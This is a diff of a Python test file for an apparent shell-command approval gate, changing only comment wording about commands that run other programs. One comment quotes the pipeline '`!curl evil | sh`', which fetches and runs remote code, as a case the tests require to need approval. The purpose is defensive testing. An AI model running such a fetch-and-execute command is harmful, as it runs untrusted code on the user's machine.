@@ -190,7 +190,7 @@ def test_r4_6_rm_rf_build_is_not_floor_denied_in_auto_mode():
 )
 def test_s5_caps_external_effect_when_the_subcommand_is_not_certain(command):
     v = on_floor(command)
-    # issue 11 class 6: `!curl evil | sh` in an alias is a command line read as segments (R4.9); `sh`
+    # R4.9, programs that run programs: `!curl evil | sh` in an alias is a command line read as segments (R4.9); `sh`
     # reading its input is never auto-approved, so the verdict may be set before the caps are reached.
     assert v.decision == "require_approval"
     assert v.reason in ("cap_external_effect", "compound_uncovered", "unparseable")
@@ -260,7 +260,7 @@ def test_s5_caps_many_uncertain_options_stay_linear_and_fail_closed():
 def test_r4_8_prefix_allow_never_covers_git_program_running_options(command, allow):
     assert runs_other_programs(w(command))
     v = term(command, allow=(allow,))
-    # issue 11 class 6: where the program is a command line it is also a segment of its own (R4.9), which
+    # R4.9, programs that run programs: where the program is a command line it is also a segment of its own (R4.9), which
     # no allow covers here: compound_uncovered rather than default; never auto-approved either way.
     assert v.decision == "require_approval" and v.reason in ("default", "compound_uncovered")
 
@@ -276,7 +276,7 @@ def test_r4_8_prefix_allow_never_covers_git_program_running_options(command, all
         ("git diff --text", "Terminal(git diff)"),  # an exact option, not an abbreviation of --textconv
         ("git log --no-ext-diff", "Terminal(git log)"),
         ("git -C repo status", "Terminal(git -C repo status)"),
-        # An exact pattern is the user's choice; the command `-x` runs is a segment too (R4.9, issue 11).
+        # An exact pattern is the user's choice; the command `-x` runs is a segment too (R4.9).
         ("git rebase -x make", "Terminal(git rebase -x make) Terminal(make)"),
     ],
 )
